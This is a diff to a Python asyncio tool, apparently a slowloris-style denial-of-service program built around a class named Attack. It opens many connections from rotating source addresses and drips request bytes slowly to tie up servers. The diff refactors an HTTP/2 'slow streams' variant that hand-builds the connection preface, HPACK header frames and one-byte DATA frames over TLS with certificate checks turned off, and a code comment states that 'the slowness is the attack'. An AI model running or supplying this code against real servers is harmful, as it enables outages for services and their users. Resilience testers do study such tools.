@@ -17,7 +17,7 @@ import struct
 import subprocess
 import sys
 from collections import Counter
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Coroutine
 from itertools import cycle
 from typing import Any
 
@@ -41,13 +41,12 @@ class Attack:
         self.sources = cycle(addresses())
         self.ends: Counter[str] = Counter()
         self.opening = asyncio.Semaphore(TOGETHER)
-        self.tls: dict[str, Any] = {}
 
-    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        """Open one connection from the next address."""
+    async def connect(self, **tls: Any) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Open one connection from the next address, with asyncio's arguments for TLS if there are any."""
         async with self.opening:
             source = (next(self.sources), 0)
-            opening = asyncio.open_connection(*self.target, local_addr=source, **self.tls)
+            opening = asyncio.open_connection(*self.target, local_addr=source, **tls)
             return await asyncio.wait_for(opening, 20)
 
     async def many(self, count: int, one: Callable[[], Awaitable[str]]) -> None:
@@ -77,12 +76,31 @@ async def status(reader: asyncio.StreamReader, seconds: float) -> str:
     return words[1] if len(words) > 1 else "closed"
 
 
-async def drip(attack: Attack, count: int, seconds: float, head: bytes, drop: bytes) -> None:
-    """Send the beginning of a request, then a few bytes each second."""
+async def closed(reader: asyncio.StreamReader, seconds: float) -> str:
+    """Return `closed` once the connection is, or `held` where it is not in time."""
+    try:
+        await asyncio.wait_for(reader.read(), seconds)
+    except TimeoutError:
+        return "held"
+    except OSError:
+        pass
+    return "closed"
+
+
+async def drip(
+    attack: Attack,
+    count: int,
+    seconds: float,
+    head: bytes,
+    drop: bytes,
+    end_of: Callable[[asyncio.StreamReader, float], Coroutine[Any, Any, str]] = status,
+    **tls: Any,
+) -> None:
+    """Send the beginning of a request, then a few bytes each second; `end_of` tells what became of it."""
 
     async def one() -> str:
-        reader, writer = await attack.connect()
-        answer = asyncio.create_task(status(reader, seconds + 10))
+        reader, writer = await attack.connect(**tls)
+        answer = asyncio.create_task(end_of(reader, seconds + 10))
         try:
             writer.write(head)
             for _ in range(int(seconds)):
@@ -122,29 +140,14 @@ async def slow_streams(attack: Attack, count: int, seconds: float, streams: int,
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2"])
-    attack.tls = {"ssl": context, "server_hostname": host}
     name = host.encode()
     # POST, https and / stand in HPACK's table (RFC 7541, appendix A), the authority is told as it is
     headers = b"\x83\x87\x84\x01" + bytes([len(name)]) + name
     numbers = range(1, 2 * streams, 2)
-
-    async def one() -> str:
-        reader, writer = await attack.connect()
-        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame2(4, 0, 0) + frame2(4, 1, 0))
-        writer.write(b"".join(frame2(1, 4, number, headers) for number in numbers))
-        end = asyncio.create_task(reader.read())
-        try:
-            for _ in range(int(seconds)):
-                writer.write(b"".join(frame2(0, 0, number, b"x") for number in numbers))
-                await writer.drain()
-                await asyncio.sleep(1)  # the slowness is the attack
-        except OSError:
-            return "closed"
-        finally:
-            writer.close()
-        return "closed" if end.done() else "held"
-
-    await attack.many(count, one)
+    head = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame2(4, 0, 0) + frame2(4, 1, 0)
+    head += b"".join(frame2(1, 4, number, headers) for number in numbers)
+    drop = b"".join(frame2(0, 0, number, b"x") for number in numbers)
+    await drip(attack, count, seconds, head, drop, closed, ssl=context, server_hostname=host)
 
 
 async def silent(attack: Attack, count: int, seconds: float) -> None:
